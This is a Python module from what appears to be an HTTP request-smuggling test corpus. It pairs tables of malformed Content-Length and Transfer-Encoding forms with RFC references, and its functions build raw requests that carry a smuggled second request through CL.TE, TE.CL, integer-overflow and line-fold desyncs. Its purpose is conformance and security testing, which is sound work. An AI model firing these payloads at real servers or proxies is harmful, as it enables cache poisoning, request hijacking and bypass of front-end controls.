"""The framing-field forms of the corpus: odd spellings of Content-Length and of
Transfer-Encoding, and the two side by side.

Rules kept here: pure, no socket, no thread. Each family is a table of forms read off the
grammar (RFC 9110 §8.6, RFC 9112 §6 and §7) and one small function that turns a form into
requests. Every request carries the smuggled request where a reader that misframes it finds
a request of its own: the whole body under an odd Content-Length (a reader that drops it
sees no body), after the last chunk under an odd Transfer-Encoding (a reader that still
sees chunked ends the body there, one that ignores it trusts Content-Length).
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from .ambiguous import AmbiguousRequest, chunked_smuggle, entry, request_bytes, smuggled


def _cl(value: bytes) -> bytes:
    return b"Content-Length: " + value


# slug: (the framing lines for a body of n bytes, reference, what is odd and why it matters)
_CL_FORMS: dict[str, tuple[Callable[[int], list[bytes]], str, str]] = {
    "duplicate-equal": (lambda n: [_cl(b"%d" % n)] * 2, "RFC 9110 §8.6",
        "Two equal Content-Length lines, which a recipient must reject or merge into one, "
        "so a reader that takes them for a conflict and one that does not disagree"),
    "duplicate-different.zero-first": (lambda n: [_cl(b"0"), _cl(b"%d" % n)], "RFC 9112 §6.3",
        "Two different Content-Length values, 0 first: a reader that takes the first sees "
        "no body and reads the smuggled request as a second one"),
    "duplicate-different.zero-last": (lambda n: [_cl(b"%d" % n), _cl(b"0")], "RFC 9112 §6.3",
        "Two different Content-Length values, 0 last: a reader that takes the last sees "
        "no body and reads the smuggled request as a second one"),
    "duplicate-different.name-case": (lambda n: [b"content-length: 0", _cl(b"%d" % n)],
        "RFC 9110 §5.1", "Two Content-Length lines spelled in different case with different "
        "values: a reader that matches names case-sensitively sees only one of them"),
    "list-equal": (lambda n: [_cl(b"%d, %d" % (n, n))], "RFC 9110 §8.6",
        "A list of two equal Content-Length values, which a recipient must reject or reduce "
        "to one, and which a reader that parses a number stops reading at the comma"),
    "list-different": (lambda n: [_cl(b"0, %d" % n)], "RFC 9112 §6.3",
        "A list of two different Content-Length values, 0 first: a reader that takes the "
        "first member sees no body and reads the smuggled request as a second one"),
    "list-trailing-comma": (lambda n: [_cl(b"%d," % n)], "RFC 9110 §8.6",
        "A Content-Length with a trailing comma, an empty list member that some readers "
        "drop and others take for an invalid value"),
    "list-leading-comma": (lambda n: [_cl(b",%d" % n)], "RFC 9110 §8.6",
        "A Content-Length with a leading comma, which a reader parsing a number reads as "
        "no number (so no body) and a list reader reads as the length"),
    "plus-sign": (lambda n: [_cl(b"+%d" % n)], "RFC 9110 §8.6",
        "A plus sign before the Content-Length digits, which strtol-style readers accept "
        "and strict ones refuse"),
    "minus-sign": (lambda n: [_cl(b"-%d" % n)], "RFC 9110 §8.6",
        "A negative Content-Length, which readers take as invalid, as no body, or wrap "
        "around to a huge length"),
    "leading-zeros": (lambda n: [_cl(b"000%d" % n)], "RFC 9110 §8.6",
        "Leading zeros in Content-Length, valid digits that a reader taking them for octal "
        "or refusing them frames differently"),
    "hex": (lambda n: [_cl(b"0x%x" % n)], "RFC 9110 §8.6",
        "A hexadecimal Content-Length, which int(value, 0) readers accept, atoi readers read "
        "as 0 (so the smuggled request follows) and strict ones refuse"),
    "decimal-point": (lambda n: [_cl(b"%d.0" % n)], "RFC 9110 §8.6",
        "A Content-Length with a decimal point, which float-parsing readers accept and "
        "strict ones refuse"),
    "underscore": (lambda n: [_cl(b"%d_%d" % divmod(n, 10))], "RFC 9110 §8.6",
        "A Content-Length with an underscore between its digits, which Python's int() "
        "accepts and every strict reader refuses"),
    "trailing-letters": (lambda n: [_cl(b"%dabc" % n)], "RFC 9110 §8.6",
        "A Content-Length followed by letters, which atoi-style readers read as the number "
        "and strict ones refuse"),
    "empty": (lambda n: [_cl(b"")], "RFC 9110 §8.6",
        "An empty Content-Length, which readers take as 0 (so the smuggled request follows), "
        "ignore, or refuse"),
    "huge": (lambda n: [_cl(b"9" * 40)], "RFC 9112 §6.3",
        "A 40-digit Content-Length, which overflows every integer type a reader may parse it "
        "into, so that readers wait forever, refuse, or wrap it around"),
    "int64-wraps-to-zero": (lambda n: [_cl(b"%d" % 2**64)], "RFC 9112 §6.3",
        "A Content-Length of 2**64, which a 64-bit reader that overflows reads as 0, taking "
        "the smuggled request in the body for a second request"),
    "int64-wraps-to-length": (lambda n: [_cl(b"%d" % (2**64 + n))], "RFC 9112 §6.3",
        "A Content-Length of 2**64 plus the body's length, which an overflowing 64-bit "
        "reader frames exactly while a correct reader waits for more"),
    "int32-wraps-to-length": (lambda n: [_cl(b"%d" % (2**32 + n))], "RFC 9112 §6.3",
        "A Content-Length of 2**32 plus the body's length, which an overflowing 32-bit "
        "reader frames exactly while a correct reader waits for more"),
    "underscore-name": (lambda n: [b"Content_Length: %d" % n], "RFC 9110 §5.1",
        "A field named Content_Length, which CGI-style servers read as Content-Length while "
        "a proxy sees no body and takes the smuggled request for a second one"),
    "space-in-name": (lambda n: [b"Content Length: %d" % n], "RFC 9110 §5.6.2",
        "A field name with a space, Content Length, which is no token yet which a "
        "whitespace-trimming reader may take for Content-Length"),
}  # fmt: skip
_CL_ODD = {
    "leading-zeros": rb"(?i:content-length)[ \t]*:[ \t]*0[0-9]",
    "underscore-name": rb"(?i)content_length",
}


def content_length() -> Iterator[AmbiguousRequest]:
    """Odd Content-Length forms, the body the smuggled request; then CL beside TE."""
    for slug, (lines_of, reference, said) in _CL_FORMS.items():

        def build(
            host: bytes, rid: bytes, lines_of: Callable[[int], list[bytes]] = lines_of
        ) -> bytes:
            body = smuggled(host, rid)
            return request_bytes(host, rid, lines_of(len(body)), body)

        yield entry(f"cl.{slug}", "cl", said + ".", reference, build, _CL_ODD.get(slug, b""))

    def cl_te(host: bytes, rid: bytes, te_first: bool = False, version: bytes = b"1.1") -> bytes:
        body = chunked_smuggle(host, rid)
        lines = [_cl(b"%d" % len(body)), b"Transfer-Encoding: chunked"]
        line = b"POST / HTTP/" + version
        return request_bytes(host, rid, lines[::-1] if te_first else lines, body, line=line)

    def te_cl(host: bytes, rid: bytes) -> bytes:
        hidden = smuggled(host, rid)
        size_line = b"%x\r\n" % len(hidden)
        lines = [b"Transfer-Encoding: chunked", _cl(b"%d" % len(size_line))]
        return request_bytes(host, rid, lines, size_line + hidden + b"\r\n0\r\n\r\n")

    why = "a reader that trusts Content-Length and one that trusts chunked end the body "
    yield entry(
        "cl.with-te.cl-first",
        "cl",
        "Content-Length beside Transfer-Encoding: chunked, " + why + "in different places "
        "(the CL.TE desync).",
        "RFC 9112 §6.3",
        cl_te,
    )
    yield entry(
        "cl.with-te.te-first",
        "cl",
        "Transfer-Encoding: chunked before a Content-Length, " + why + "in different "
        "places, whichever line comes first.",
        "RFC 9112 §6.3",
        lambda host, rid: cl_te(host, rid, te_first=True),
    )
    yield entry(
        "cl.with-te.te-cl",
        "cl",
        "A Content-Length that covers only the first chunk-size line, so a reader that "
        "trusts it reads the chunk's data, the smuggled request, as a second request "
        "(the TE.CL desync).",
        "RFC 9112 §6.3",
        te_cl,
    )
    yield entry(
        "cl.with-te.http10",
        "cl",
        "Content-Length beside Transfer-Encoding in an HTTP/1.0 request, where chunked "
        "does not exist, so that readers disagree on which one frames the body.",
        "RFC 9112 §6.1",
        lambda host, rid: cl_te(host, rid, version=b"1.0"),
    )

    def get_with_body(host: bytes, rid: bytes) -> bytes:
        body = smuggled(host, rid)
        return request_bytes(host, rid, [_cl(b"%d" % len(body))], body, line=b"GET / HTTP/1.1")

    yield entry(
        "cl.get-with-body",
        "cl",
        "A GET with a body, valid HTTP/1.1 that a reader ignoring GET bodies frames as "
        "two requests, the second one smuggled.",
        "RFC 9110 §9.3.1",
        get_with_body,
        valid=True,
    )


def _te(value: bytes) -> bytes:
    return b"Transfer-Encoding: " + value


# slug: (the Transfer-Encoding lines, reference, what is odd)
_TE_FORMS: dict[str, tuple[list[bytes], str, str]] = {
    "case-upper": ([_te(b"CHUNKED")], "RFC 9112 §7", "Transfer-Encoding: CHUNKED, valid "
                   "since codings are case-insensitive, yet missed by case-sensitive readers"),
    "case-mixed": ([_te(b"ChUnKeD")], "RFC 9112 §7", "Transfer-Encoding: ChUnKeD, valid since "
                   "codings are case-insensitive, yet missed by case-sensitive readers"),
    "chunked-identity": ([_te(b"chunked, identity")], "RFC 9112 §6.3", "Chunked not last, "
                         "which a server must answer with 400 as its body cannot be framed"),
    "identity-chunked": ([_te(b"identity, chunked")], "RFC 9112 §7", "The unregistered "
                         "coding identity before chunked, which readers skip, refuse or stop at"),
    "identity": ([_te(b"identity")], "RFC 9112 §6.3", "Transfer-Encoding: identity alone, a "
                 "coding RFC 7230 removed, which old readers take as no coding at all"),
    "xchunked": ([_te(b"xchunked")], "RFC 9112 §6.3", "The coding xchunked, which a reader "
                 "matching a substring takes for chunked"),
    "chunked-suffix": ([_te(b"chunkedx")], "RFC 9112 §6.3", "The coding chunkedx, which a "
                       "reader matching a prefix takes for chunked"),
    "quoted": ([_te(b'"chunked"')], "RFC 9112 §7", "A quoted \"chunked\", which is no "
               "token, yet a reader that unquotes values takes it for chunked"),
    "single-quoted": ([_te(b"'chunked'")], "RFC 9112 §7", "A single-quoted 'chunked', a "
                      "token unlike chunked that a reader stripping quotes takes for chunked"),
    "leading-comma": ([_te(b", chunked")], "RFC 9110 §5.6.1", "A list with an empty first "
                      "member, which a list reader skips and a plain reader does not"),
    "trailing-comma": ([_te(b"chunked,")], "RFC 9110 §5.6.1", "A list with an empty last "
                       "member, so that a reader taking the last member finds nothing"),
    "chunked-twice": ([_te(b"chunked, chunked")], "RFC 9112 §7", "Chunked applied twice, "
                      "which a sender must not do and readers decode once, twice or refuse"),
    "unknown-then-chunked": ([_te(b"foo, chunked")], "RFC 9112 §6.1", "An unknown coding "
                             "before chunked, which a server should answer with 501"),
    "chunked-then-gzip": ([_te(b"chunked, gzip")], "RFC 9112 §6.3", "Chunked before gzip, so "
                          "that the body cannot be framed by chunked and must be refused"),
    "parameter": ([_te(b"chunked;foo=bar")], "RFC 9112 §7", "A parameter on chunked, which "
                  "defines none, so that readers ignore it or refuse the coding"),
    "empty": ([_te(b"")], "RFC 9112 §6.1", "An empty Transfer-Encoding, which readers ignore "
              "or refuse"),
    "two-lines.chunked-identity": ([_te(b"chunked"), _te(b"identity")], "RFC 9110 §5.3",
                                   "Two Transfer-Encoding lines, chunked then identity, so "
                                   "that a reader keeping one line keeps either"),
    "two-lines.identity-chunked": ([_te(b"identity"), _te(b"chunked")], "RFC 9110 §5.3",
                                   "Two Transfer-Encoding lines, identity then chunked, so "
                                   "that a reader keeping the first line sees no chunked"),
    "two-lines.chunked-chunked": ([_te(b"chunked"), _te(b"chunked")], "RFC 9112 §7",
                                  "Two Transfer-Encoding: chunked lines, chunked applied "
                                  "twice to a reader that combines them"),
    "obs-fold-value": ([b"Transfer-Encoding:", b" chunked"], "RFC 9112 §5.2", "The value "
                       "chunked on an obsolete line fold, so that a reader ignoring folds "
                       "sees an empty Transfer-Encoding"),
    "obs-fold-second-coding": ([_te(b"identity,"), b"\tchunked"], "RFC 9112 §5.2", "Chunked "
                               "on an obsolete line fold after identity, seen as the last "
                               "coding only by readers that unfold"),
    "underscore-name": ([b"Transfer_Encoding: chunked"], "RFC 9110 §5.1", "A field named "
                        "Transfer_Encoding, which CGI-style servers read as Transfer-Encoding"),
    "space-in-name": ([b"Transfer Encoding: chunked"], "RFC 9110 §5.6.2", "A field name "
                      "with a space, which is no token yet a trimming reader may accept"),
    "te-field": ([b"TE: chunked"], "RFC 9112 §7.4", "TE: chunked, which a client must not "
                 "send, and which a confused reader takes for Transfer-Encoding"),
}  # fmt: skip
_TE_ODD = {
    "case-upper": rb"CHUNKED",
    "case-mixed": rb"ChUnKeD",
    "underscore-name": rb"(?i)transfer_encoding",
    "te-field": rb"(?im)^te[ \t]*:",
}


def transfer_encoding() -> Iterator[AmbiguousRequest]:
    """Odd Transfer-Encoding forms beside a Content-Length that covers the whole body: a
    reader that sees chunked reads the smuggled request after the last chunk."""
    for slug, (lines, reference, said) in _TE_FORMS.items():

        def build(host: bytes, rid: bytes, lines: list[bytes] = lines) -> bytes:
            body = chunked_smuggle(host, rid)
            return request_bytes(host, rid, [*lines, _cl(b"%d" % len(body))], body)

        yield entry(f"te.{slug}", "te", said + ".", reference, build, _TE_ODD.get(slug, b""))

    def http10(host: bytes, rid: bytes) -> bytes:
        body = chunked_smuggle(host, rid)
        lines = [_te(b"chunked"), _cl(b"%d" % len(body))]
        return request_bytes(host, rid, lines, body, line=b"POST / HTTP/1.0")

    yield entry(
        "te.http10",
        "te",
        "Transfer-Encoding in an HTTP/1.0 request, which a server must treat as faulty "
        "framing, while a reader that decodes it anyway reads the smuggled request after "
        "the last chunk.",
        "RFC 9112 §6.1",
        http10,
    )
    for coding in (b"xchunked", b"chunked, identity"):

        def alone(host: bytes, rid: bytes, coding: bytes = coding) -> bytes:
            return request_bytes(host, rid, [_te(coding)], chunked_smuggle(host, rid))

        slug = coding.decode().replace(", ", "-")
        yield entry(
            f"te.without-cl.{slug}",
            "te",
            f"Transfer-Encoding: {coding.decode()} with no Content-Length, which a server "
            "must refuse with 400, while a reader that takes it for chunked reads the "
            "smuggled request after the last chunk.",
            "RFC 9112 §6.3",
            alone,
        )
